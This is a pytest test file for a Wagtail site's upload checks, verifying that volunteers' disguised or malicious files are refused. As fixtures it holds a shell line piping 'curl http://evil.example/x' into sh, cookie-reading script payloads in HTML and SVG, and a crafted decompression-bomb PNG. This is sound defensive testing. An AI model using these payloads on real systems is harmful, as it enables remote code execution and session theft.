"""Uploads through the Wagtail admin are checked for what they really are, not their names.

A provider (a small charity's volunteer) uploads pictures, videos and captions into their
organisation's collection through the same views a browser uses: the add form, the
multiple uploader and the chooser's upload tab in the page editor. Refused files leave
nothing behind; each refusal says why and what to do, in words a volunteer understands.
"""

import io
import resource
import struct
import zlib

import pytest
from allauth.mfa.models import Authenticator
from django.conf import settings
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings
from django.urls import reverse
from PIL import Image as PILImage
from PIL import ImageFile
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Collection, UploadedFile

from localoffer.uploads import check_upload_content
from providers.organisations.access import organisation_collection

Image = get_image_model()
Document = get_document_model()

ACCEPTED = "Upload a JPEG, PNG, GIF or WebP picture"
NOT_A_PICTURE = f"The file is not a picture, or it is damaged. {ACCEPTED}"
TOO_MANY_PIXELS = (
    "The picture has too many pixels. It must be at most 40 million pixels "
    "(for example 6000 by 4000). Make it smaller and upload it again"
)
MB = 1024 * 1024


def picture_bytes(width: int = 40, height: int = 30, *, fmt: str = "PNG", noise=False) -> bytes:
    image = PILImage.new("RGB", (width, height), "orange")
    if noise:
        image = PILImage.frombytes("RGB", (width, height), _pseudo_random(width * height * 3))
    buffer = io.BytesIO()
    image.save(buffer, fmt)
    return buffer.getvalue()


def png_bytes(width: int = 40, height: int = 30, *, noise: bool = False) -> bytes:
    return picture_bytes(width, height, noise=noise)


def _pseudo_random(length: int) -> bytes:
    # Deterministic bytes that PNG cannot compress much, so a small picture is a big file.
    out = bytearray()
    state = 12345
    for _ in range(length):
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
        out.append(state >> 16 & 0xFF)
    return bytes(out)


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header says it is width x height (a decompression bomb's shape)."""
    data = bytearray(png_bytes(1, 1))
    # The IHDR chunk follows the 8-byte signature: length (4), type (4), then width and height.
    ihdr_start = 8 + 4
    ihdr = bytearray(data[ihdr_start : ihdr_start + 4 + 13])
    ihdr[4:12] = struct.pack(">II", width, height)
    data[ihdr_start : ihdr_start + 4 + 13] = ihdr
    crc_at = ihdr_start + 4 + 13
    data[crc_at : crc_at + 4] = struct.pack(">I", zlib.crc32(bytes(ihdr)) & 0xFFFFFFFF)
    return bytes(data)


def png_with_spliced_html() -> bytes:
    """A real PNG's header and chunks, with a web page written over its picture data."""
    data = bytearray(png_bytes(40, 30, noise=True))
    idat = data.index(b"IDAT") + 4
    payload = b"<html><script>alert(document.cookie)</script></html>"
    data[idat + 8 : idat + 8 + len(payload)] = payload
    return bytes(data)


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/admin/').then(r => r.text())</script></svg>"
)
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
MP4_HEAD = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 200
WEBVTT = b"WEBVTT\n\n00:00.000 --> 00:02.500\nWelcome to the club.\n"


@pytest.fixture
def provider(client_for):
    return client_for("provider")


@pytest.fixture
def own_collection(users_by_role, organisation):
    return organisation_collection(organisation)


@pytest.fixture
def root_collection(db):
    return Collection.get_first_root_node()


@pytest.fixture
def editor(users_by_role):
    """A content editor: council staff, so they have an authenticator app, as the admin
    insists (localoffer.accounts.middleware)."""
    user = users_by_role["content_editor"]
    Authenticator.objects.get_or_create(
        user=user, type=Authenticator.Type.TOTP, defaults={"data": {"secret": "x"}}
    )
    client = Client()
    client.force_login(user)
    return client


def upload_image(client, collection, name: str, content: bytes, content_type="image/png"):
    return client.post(
        reverse("wagtailimages:add"),
        {
            "title": name,
            "file": SimpleUploadedFile(name, content, content_type),
            "collection": collection.pk,
        },
    )


def upload_images_multiple(client, collection, name: str, content: bytes, content_type):
    return client.post(
        reverse("wagtailimages:add_multiple"),
        {
            "collection": collection.pk,
            "files[]": SimpleUploadedFile(name, content, content_type),
        },
    )


def upload_document(client, collection, name: str, content: bytes, content_type="text/plain"):
    return client.post(
        reverse("wagtaildocs:add"),
        {
            "title": name,
            "file": SimpleUploadedFile(name, content, content_type),
            "collection": collection.pk,
        },
    )


def file_errors(response) -> list[str]:
    assert response.status_code == 200, "a refused upload shows the form again"
    return [str(error) for error in response.context["form"].errors.get("file", [])]


@pytest.fixture(autouse=True)
def _files_already_stored():
    """The in-memory storage lives as long as the test run: note what earlier tests left."""
    global _ALREADY_STORED
    _ALREADY_STORED = set(stored_files())


_ALREADY_STORED: set[str] = set()


def stored_files(folder: str = "") -> list[str]:
    """Every file in the media storage (the tests' in-memory storage), under `folder`."""
    try:
        folders, files = default_storage.listdir(folder)
    except FileNotFoundError:
        return []
    found = [f"{folder}/{name}".lstrip("/") for name in files]
    for child in folders:
        found += stored_files(f"{folder}/{child}".lstrip("/"))
    return found


def assert_nothing_stored() -> None:
    assert not Image.objects.exists()
    assert not Document.objects.exists()
    assert not UploadedFile.objects.exists()
    assert set(stored_files()) - _ALREADY_STORED == set()


# --- pictures: what is accepted -----------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "fmt"),
    [("ramp.png", "PNG"), ("ramp.jpg", "JPEG"), ("ramp.gif", "GIF"), ("ramp.webp", "WEBP")],
)
def test_a_provider_uploads_a_real_picture_into_their_own_collection(
    provider, own_collection, name, fmt
):
    response = upload_image(provider, own_collection, name, picture_bytes(fmt=fmt))
    assert response.status_code == 302
    image = Image.objects.get(title=name)
    assert (image.width, image.height) == (40, 30)
    assert image.collection == own_collection


def test_the_form_tells_providers_what_pictures_it_takes(provider):
    response = provider.get(reverse("wagtailimages:add"))
    assert response.context["form"].fields["file"].help_text == (
        "Upload a JPEG, PNG, GIF or WebP picture, smaller than 10.0\xa0MB and at most "
        "40 million pixels (for example 6000 by 4000)."
    )


def test_the_accepted_kinds_of_picture_are_deliberate():
    assert settings.WAGTAILIMAGES_EXTENSIONS == ["gif", "jpg", "jpeg", "png", "webp"]


# --- pictures: what is refused ------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("photo.jpg", b"just some words, not a picture\n", "image/jpeg"),
        ("photo.jpg", SHELL_SCRIPT, "image/jpeg"),
        ("photo.png", HTML_PAGE, "image/png"),
        ("photo.png", png_with_spliced_html(), "image/png"),
    ],
    ids=["text", "script", "web page", "web page spliced into a png"],
)
def test_a_file_that_is_not_really_a_picture_is_refused(
    provider, own_collection, name, content, content_type
):
    errors = file_errors(upload_image(provider, own_collection, name, content, content_type))
    assert errors == [NOT_A_PICTURE]
    assert_nothing_stored()


def test_a_picture_whose_name_says_another_format_is_refused(provider, own_collection):
    errors = file_errors(upload_image(provider, own_collection, "ramp.jpg", png_bytes()))
    assert errors == [
        "The file's name ends in .jpg but it is a PNG picture. "
        "Rename it to end in .png and upload it again"
    ]
    assert_nothing_stored()


def test_an_svg_is_not_accepted_at_all(provider, own_collection):
    response = upload_image(provider, own_collection, "logo.svg", SVG_WITH_SCRIPT, "image/svg+xml")
    assert file_errors(response) == [f"SVG pictures are not accepted. {ACCEPTED}"]
    assert_nothing_stored()


def test_an_svg_named_png_is_refused(provider, own_collection):
    errors = file_errors(upload_image(provider, own_collection, "logo.png", SVG_WITH_SCRIPT))
    assert errors == [f"The file is an SVG picture, which is not accepted. {ACCEPTED}"]
    assert_nothing_stored()


def test_another_kind_of_file_is_refused_by_its_name(provider, own_collection):
    errors = file_errors(upload_image(provider, own_collection, "page.html", HTML_PAGE))
    assert errors == [f"This type of file is not accepted. {ACCEPTED}"]
    assert_nothing_stored()


def test_a_50_mb_picture_is_refused_by_its_size_before_it_is_read(
    provider, own_collection, monkeypatch
):
    content = png_bytes() + b"\x00" * (50 * MB)
    assert len(content) < settings.MAX_REQUEST_BODY_SIZE, "the site takes it: the form decides"
    opened = []
    original_open = PILImage.open
    monkeypatch.setattr(
        PILImage, "open", lambda *a, **k: opened.append(1) or original_open(*a, **k)
    )

    errors = file_errors(upload_image(provider, own_collection, "big.png", content))

    assert errors == ["The file is 50.0\xa0MB. It must be smaller than 10.0\xa0MB"]
    assert opened == [], "the picture was handed to Pillow although it was too big"
    assert_nothing_stored()


@override_settings(WAGTAILIMAGES_MAX_UPLOAD_SIZE=2_000)
def test_the_size_limit_is_a_setting(provider, own_collection):
    content = png_bytes(60, 60, noise=True)
    assert len(content) > 2_000
    errors = file_errors(upload_image(provider, own_collection, "big.png", content))
    assert errors and errors[0].endswith("It must be smaller than 2.0\xa0KB")
    assert_nothing_stored()


@pytest.fixture
def decoded(monkeypatch) -> list[tuple[int, int]]:
    """The sizes of pictures Pillow decodes (allocates pixels for) during the test."""
    sizes: list[tuple[int, int]] = []
    original_load = ImageFile.ImageFile.load

    def load(self):
        sizes.append(self.size)
        return original_load(self)

    monkeypatch.setattr(ImageFile.ImageFile, "load", load)
    return sizes


@pytest.mark.parametrize(
    ("width", "height"),
    [(30_000, 30_000), (7_000, 7_000)],
    ids=["refused by Pillow on opening", "refused by the pixel limit"],
)
def test_a_decompression_bomb_is_refused_without_being_decoded(
    provider, own_collection, decoded, width, height
):
    bomb = png_claiming(width, height)
    assert len(bomb) < 200
    assert struct.unpack(">II", bomb[16:24]) == (width, height)  # what the header claims
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

    errors = file_errors(upload_image(provider, own_collection, "bomb.png", bomb))

    assert errors == [TOO_MANY_PIXELS]
    assert decoded == []
    # Decoding 7,000 x 7,000 RGB pixels would take 147 MB (ru_maxrss is in KiB).
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak_before < 100 * 1024
    assert_nothing_stored()


@override_settings(WAGTAILIMAGES_MAX_IMAGE_PIXELS=1_000)
def test_the_pixel_limit_is_a_setting(provider, own_collection):
    errors = file_errors(upload_image(provider, own_collection, "wide.png", png_bytes(50, 40)))
    assert errors and "too many pixels" in errors[0]
    assert_nothing_stored()


def test_pillow_refuses_a_bomb_everywhere_not_only_in_the_form():
    assert settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS == 40_000_000
    assert PILImage.MAX_IMAGE_PIXELS == settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS
    with pytest.raises(PILImage.DecompressionBombError):
        PILImage.open(io.BytesIO(png_claiming(10_000, 10_000)))


def test_a_pictures_file_can_be_replaced_only_by_a_real_picture(editor, root_collection):
    upload_image(editor, root_collection, "ramp.png", png_bytes())
    image = Image.objects.get()
    edit = reverse("wagtailimages:edit", args=[image.pk])
    response = editor.post(
        edit,
        {
            "title": "Ramp",
            "file": SimpleUploadedFile("ramp.png", HTML_PAGE, "image/png"),
            "collection": root_collection.pk,
        },
    )
    assert file_errors(response) == [NOT_A_PICTURE]
    # Without a new file, the title changes and the picture stays as it was.
    response = editor.post(edit, {"title": "Ramp", "collection": root_collection.pk})
    assert response.status_code == 302
    image.refresh_from_db()
    assert image.title == "Ramp"
    assert (image.width, image.height) == (40, 30)


# --- pictures: the multiple uploader and the chooser run the same checks -------------------


@pytest.mark.parametrize(
    ("name", "content", "content_type", "message"),
    [
        ("photo.jpg", SHELL_SCRIPT, "image/jpeg", NOT_A_PICTURE),
        ("photo.png", HTML_PAGE, "image/png", NOT_A_PICTURE),
        (
            "logo.svg",
            SVG_WITH_SCRIPT,
            "image/svg+xml",
            f"SVG pictures are not accepted. {ACCEPTED}",
        ),
        ("bomb.png", png_claiming(30_000, 30_000), "image/png", TOO_MANY_PIXELS),
    ],
    ids=["script", "web page", "svg", "bomb"],
)
def test_the_multiple_uploader_refuses_what_the_form_refuses(
    provider, own_collection, name, content, content_type, message
):
    response = upload_images_multiple(provider, own_collection, name, content, content_type)
    assert response.json() == {"success": False, "error_message": message}
    assert_nothing_stored()


def test_the_multiple_uploader_takes_a_real_picture(provider, own_collection):
    response = upload_images_multiple(provider, own_collection, "bus.png", png_bytes(), "image/png")
    assert response.json()["success"] is True
    assert Image.objects.get().collection == own_collection


def test_the_multiple_uploader_checks_the_size_in_the_browser_with_the_same_words(provider):
    response = provider.get(reverse("wagtailimages:add_multiple"))
    assert response.context["error_max_file_size"] == "The file must be smaller than 10.0\xa0MB"
    assert response.context["error_accepted_file_types"] == (
        f"This type of file is not accepted. {ACCEPTED}"
    )


def test_the_page_editors_image_chooser_refuses_a_disguised_file(provider, own_collection):
    response = provider.post(
        reverse("wagtailimages_chooser:create"),
        {
            "image-chooser-upload-title": "Our hall",
            "image-chooser-upload-file": SimpleUploadedFile("hall.png", SVG_WITH_SCRIPT),
            "image-chooser-upload-collection": own_collection.pk,
        },
    )
    data = response.json()
    assert data["step"] == "reshow_creation_form"
    assert "The file is an SVG picture, which is not accepted." in data["htmlFragment"]
    assert_nothing_stored()


# --- the whole request: a site limit before the body is read -------------------------------


class UnreadableBody:
    """A request body that fails the test if anything reads it."""

    def read(self, *args):
        raise AssertionError("the request body was read")

    readline = read


def test_a_request_above_the_site_limit_is_refused_before_its_body_is_read(provider):
    too_big = settings.MAX_REQUEST_BODY_SIZE + 1
    response = provider.generic(
        "POST",
        reverse("wagtailimages:add"),
        content_type="multipart/form-data; boundary=xyz",
        **{"wsgi.input": UnreadableBody(), "CONTENT_LENGTH": str(too_big)},
    )
    assert response.status_code == 413
    html = response.content.decode()
    assert '<h1 class="govuk-heading-l">The file is too big</h1>' in html
    assert "What you tried to send is bigger than 51.0\xa0MB, so we have not saved it." in html
    assert "10.0\xa0MB for a picture" in html
    assert "50.0\xa0MB for a video or another file" in html
    assert_nothing_stored()


def test_the_site_limit_fits_the_largest_file_a_form_takes():
    largest = max(settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE, settings.WAGTAILDOCS_MAX_UPLOAD_SIZE)
    assert largest < settings.MAX_REQUEST_BODY_SIZE <= largest + 2 * MB


@override_settings(MAX_REQUEST_BODY_SIZE=100_000)
def test_a_real_upload_above_the_site_limit_is_answered_413(provider, own_collection):
    response = upload_document(provider, own_collection, "clip.mp4", MP4_HEAD + b"\x00" * 200_000)
    assert response.status_code == 413
    assert_nothing_stored()


def test_the_site_limit_does_not_touch_ordinary_requests(provider, own_collection):
    assert provider.get("/admin/").status_code == 200
    assert upload_document(provider, own_collection, "clip.vtt", WEBVTT).status_code == 302


# --- documents: videos, captions and leaflets ----------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("leaflet.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"),
        ("clip.mp4", MP4_HEAD),
        ("clip.vtt", WEBVTT),
        ("notes.txt", "Notes for parents: £5 a session.\n".encode()),
    ],
)
def test_a_provider_uploads_real_documents(provider, own_collection, name, content):
    response = upload_document(provider, own_collection, name, content)
    assert response.status_code == 302, response.context["form"].errors
    document = Document.objects.get(title=name)
    assert document.file_extension == name.rsplit(".", 1)[1]
    assert document.collection == own_collection


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        (
            "clip.mp4",
            SHELL_SCRIPT,
            "The file is not a real .mp4 file. Check it and upload it again.",
        ),
        (
            "clip.webm",
            MP4_HEAD,
            "The file is not a real .webm file. Check it and upload it again.",
        ),
        (
            "leaflet.pdf",
            b"<html><body>Not a PDF</body></html>",
            "The file is not a real .pdf file. Check it and upload it again.",
        ),
        (
            "captions.vtt",
            b"1\n00:00:00,000 --> 00:00:02,500\nAn SRT file, not WebVTT\n",
            "A captions file must be WebVTT: its first line must be WEBVTT",
        ),
        (
            "captions.vtt",
            b"WEBVTT\n\n<script>alert(1)</script>\n",
            "The file must be plain text, not a web page or program",
        ),
        ("notes.txt", b"\xff\xfe\x00\x00binary", "The file must be plain text (UTF-8)"),
        ("empty.pdf", b"", None),
    ],
)
def test_documents_that_are_not_what_they_say_are_refused(
    provider, own_collection, name, content, message
):
    errors = file_errors(upload_document(provider, own_collection, name, content))
    assert errors
    if message:
        assert errors == [message]
    assert_nothing_stored()


@pytest.mark.parametrize("name", ["page.html", "logo.svg", "run.exe"])
def test_a_document_type_not_on_the_list_is_refused(provider, own_collection, name):
    errors = file_errors(upload_document(provider, own_collection, name, HTML_PAGE))
    assert errors
    assert_nothing_stored()


def test_the_document_multiple_uploader_runs_the_same_check(provider, own_collection):
    response = provider.post(
        reverse("wagtaildocs:add_multiple"),
        {
            "collection": own_collection.pk,
            "files[]": SimpleUploadedFile("clip.mp4", b"#!/bin/sh\necho hi\n", "video/mp4"),
        },
    )
    data = response.json()
    assert data["success"] is False
    assert "not a real .mp4 file" in data["error_message"]
    assert_nothing_stored()


def test_the_document_chooser_runs_the_same_check(provider, own_collection):
    response = provider.post(
        reverse("wagtaildocs_chooser:create"),
        {
            "document-chooser-upload-title": "Captions",
            "document-chooser-upload-file": SimpleUploadedFile("clip.vtt", HTML_PAGE),
            "document-chooser-upload-collection": own_collection.pk,
        },
    )
    data = response.json()
    assert data["step"] == "reshow_creation_form"
    assert "The file must be plain text, not a web page or program" in data["htmlFragment"]
    assert_nothing_stored()


def test_replacing_a_documents_file_is_checked(editor, provider, own_collection):
    upload_document(provider, own_collection, "clip.vtt", WEBVTT)
    document = Document.objects.get()
    response = editor.post(
        reverse("wagtaildocs:edit", args=[document.pk]),
        {
            "title": "clip.vtt",
            "file": SimpleUploadedFile("clip.vtt", b"not captions", "text/vtt"),
            "collection": own_collection.pk,
        },
    )
    assert file_errors(response) == [
        "A captions file must be WebVTT: its first line must be WEBVTT"
    ]
    document.refresh_from_db()
    assert document.file.read().startswith(b"WEBVTT")


@override_settings(WAGTAILDOCS_MAX_UPLOAD_SIZE=1_000)
def test_a_document_over_the_size_limit_is_refused(provider, own_collection):
    errors = file_errors(upload_document(provider, own_collection, "clip.vtt", WEBVTT * 30))
    assert len(errors) == 1  # and not also 'File extension "" is not allowed'
    assert errors[0].startswith("This file is too big")
    assert_nothing_stored()


# --- the check itself ---------------------------------------------------------------------


def test_check_reads_the_start_of_the_file_and_rewinds_it():
    upload = SimpleUploadedFile("clip.mp4", MP4_HEAD, "video/mp4")
    upload.read(5)
    check_upload_content(upload, ".MP4")
    assert upload.tell() == 0


def test_check_refuses_an_unknown_extension():
    with pytest.raises(Exception, match="not accepted"):
        check_upload_content(SimpleUploadedFile("x.exe", b"MZ\x90\x00"), "exe")
